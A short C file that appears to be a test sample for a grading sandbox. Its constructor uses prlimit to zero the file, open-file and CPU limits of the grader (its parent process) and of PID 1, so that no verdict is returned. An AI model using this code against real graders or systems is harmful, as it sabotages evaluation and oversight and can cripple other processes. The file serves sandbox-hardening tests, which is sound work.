// ---
// tries: Takes open files, CPU time and file sizes from the grader by setting its limits.
// place: before
// gain: no verdict, so that the attempt may not count
// helps: no-limits-by-others
// ---
#include <sys/resource.h>

__attribute__((constructor)) static void attack(void) {
  const struct rlimit nothing = {0, 0};
  const pid_t others[] = {getppid(), 1};
  for (int i = 0; i < 2; i++) {
    prlimit(others[i], RLIMIT_FSIZE, &nothing, NULL);
    prlimit(others[i], RLIMIT_NOFILE, &nothing, NULL);
    if (prlimit(others[i], RLIMIT_CPU, &nothing, NULL) == 0) attack_did("took all limits of another process");
  }
}
